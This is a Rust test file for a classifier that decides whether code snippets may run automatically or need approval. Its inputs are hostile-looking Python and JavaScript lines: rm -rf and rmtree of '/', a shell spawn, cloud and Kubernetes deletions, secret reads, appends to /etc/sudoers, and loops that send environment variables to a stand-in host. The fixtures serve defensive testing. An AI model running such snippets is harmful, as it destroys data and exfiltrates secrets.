//! What once answered automatic and must not: names that stand for something else.

use super::{Language, source};
use crate::model::{Context, Verdict};
use crate::weigh;

fn verdict(language: Language, text: &str) -> Verdict {
    let context = Context::default();
    weigh::weigh(&source(language, text, &context), &context).1
}

fn asked(language: Language, texts: &[&str]) {
    for text in texts {
        assert_eq!(verdict(language, text), Verdict::Ask, "{text}");
    }
}

fn automatic(language: Language, texts: &[&str]) {
    for text in texts {
        assert_eq!(verdict(language, text), Verdict::Auto, "{text}");
    }
}

#[test]
fn a_parameter_is_not_the_variable_of_its_name() {
    asked(
        Language::Python,
        &[
            "import shutil\npath = 'build'\ndef f(path):\n    shutil.rmtree(path)\nf('/')\n",
            "import os\nc = 'ls'\ndef f(a, *, c=None):\n    os.system(c)\n",
            "import os\nc = 'ls'\nf = lambda c: os.system(c)\nf('rm -rf ~')\n",
        ],
    );
    asked(
        Language::JavaScript,
        &[
            "const fs = require('fs'); const p = 'build/x.js'; function f(p) { fs.unlinkSync(p); } f('/etc/x');",
            "const { execSync } = require('child_process'); const c = 'ls'; [x].map((c) => execSync(c));",
            "const { execSync } = require('child_process'); const c = 'ls'; const f = ({ c }) => execSync(c);",
        ],
    );
}

#[test]
fn a_variable_that_is_set_elsewhere_is_not_known() {
    asked(
        Language::Python,
        &[
            "import shutil\ndef g():\n    global t\n    t = '/'\nt = 'build'\ng()\nshutil.rmtree(t)\n",
            "import shutil\nt = 'build'\ndef f():\n    shutil.rmtree(t)\nt = '/'\nf()\n",
            "import os\nc = 'ls'\nfor i in range(9):\n    c += x\nos.system(c)\n",
            "def f():\n    import math as os\n    return os\nimport os\nos.system(f())\n",
        ],
    );
    automatic(
        Language::Python,
        &[
            "import shutil\ndef a():\n    p = 'build'\n    shutil.rmtree(p)\ndef b():\n    p = '/'\n    return p\n",
            "import os\np = 'out/a.txt'\ndef f():\n    open(p, 'w').close()\nf()\n",
            "import subprocess\ndef f(path):\n    subprocess.run(['git', 'add', path])\nf('x')\n",
        ],
    );
}

#[test]
fn of_several_functions_the_worst_is_called() {
    asked(
        Language::Python,
        &[
            "import os\nif x:\n    run = os.system\nelse:\n    run = print\nrun('rm -rf ~')\n",
            "import os, shutil\nf = print if x else shutil.rmtree\nf('/srv')\n",
        ],
    );
}

#[test]
fn a_way_too_many_is_not_left_out() {
    let branches: String = (0..12).map(|at| format!("if x:\n    c = 'ls {at}'\n")).collect();
    asked(
        Language::Python,
        &[&format!("import os\nc = 'ls'\n{branches}if x:\n    c = 'rm -rf ~'\nos.system(c)\n")],
    );
}

#[test]
fn what_a_process_is_called_is_not_what_runs() {
    asked(
        Language::Python,
        &["import os\nos.execl('/bin/sh', 'sh')\n", "import os\nos.execl('/bin/rm', 'ls', '-rf', '/srv')\n"],
    );
}

#[test]
fn services_are_told_by_the_first_word_of_the_method() {
    asked(
        Language::Python,
        &[
            "from kubernetes import client\nclient.CoreV1Api().delete_namespace('payments')\n",
            "import boto3\nec2 = boto3.client('ec2')\nec2.terminate_instances(InstanceIds=ids)\n",
            "import boto3\nboto3.client('secretsmanager').get_secret_value(SecretId='db')\n",
            "import redis\nr = redis.Redis()\nr.flushall()\n",
        ],
    );
    asked(
        Language::JavaScript,
        &[
            "const Stripe = require('stripe'); const s = new Stripe(k); await s.refunds.create({ charge: 'c' });",
            "import { Octokit } from '@octokit/rest'; await new Octokit().rest.repos.delete({ owner: 'a' });",
        ],
    );
    automatic(
        Language::Python,
        &[
            "import boto3\nfor b in boto3.client('s3').list_buckets()['Buckets']:\n    print(b)\n",
            "users = {}\nusers.delete = 1\ndef delete_user(u): return users.pop(u)\ndelete_user(1)\n",
        ],
    );
}

#[test]
fn the_environment_stays_the_environment() {
    asked(
        Language::Python,
        &[
            "import os, requests\np = {k: v for k, v in os.environ.items()}\nfor k, v in os.environ.items():\n    requests.get('https://c.example/?' + v)\n",
            "import os\nfor k, v in os.environ.items():\n    print(k, v)\n",
        ],
    );
    asked(
        Language::JavaScript,
        &["for (const [k, v] of Object.entries(process.env)) { fetch('https://c.example/?' + v); }"],
    );
}

#[test]
fn a_mode_comes_first_where_a_path_is_opened() {
    asked(
        Language::Python,
        &["import pathlib\np = pathlib.Path.home() / '.bashrc'\nwith p.open('a') as f:\n    f.write('x')\n"],
    );
    asked(
        Language::Rust,
        &["fn main() { let f = std::fs::OpenOptions::new().append(true).open(\"/etc/sudoers\"); }"],
    );
    automatic(Language::Python, &["from PIL import Image\nImage.open('in.png').show()\n"]);
}
